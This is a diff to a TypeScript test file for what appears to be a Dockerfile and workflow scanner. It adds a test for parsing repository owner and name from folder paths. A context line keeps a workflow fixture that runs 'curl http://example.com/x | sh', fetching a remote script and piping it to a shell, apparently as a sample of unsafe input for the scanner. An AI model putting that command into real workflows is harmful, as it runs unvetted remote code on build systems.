@@ -10,6 +10,7 @@ import { Repository } from '../repository.ts';
 import { root } from '../syntax.ts';
 import type { Outcome } from './outcome.ts';
 import { readRanges } from './ranges.ts';
+import { ownerAndName } from './repositories.ts';
 
 const good = 'FROM alpine:3.22\nUSER 1000\nCMD ["true"]\n';
 const workflow = 'on: push\njobs:\n  a:\n    steps:\n      - run: curl http://example.com/x | sh\n';
@@ -99,6 +100,12 @@ describe('npm run real', () => {
     assert.equal(short.status, 1);
     assert.match(short.stdout, /^2 files: 2 hung$/m);
     assert.match(short.stdout, /^acme\+shop\/repo \w+ Dockerfile\n {2}fail → hung\n {2}- Dockerfile:/m);
+  });
+
+  test('knows whose a repository is by its folder', () => {
+    assert.deepEqual(ownerAndName('/mirror/acme+shop.js/repo'), { owner: 'acme', name: 'shop.js' });
+    for (const folder of ['/mirror/acme/shop', '/c++/repo', '/mirror/+shop'])
+      assert.deepEqual(ownerAndName(folder), {});
   });
 
   test('reads lists of ranges with tabs or as JSON, and knows a repository by several names', () => {
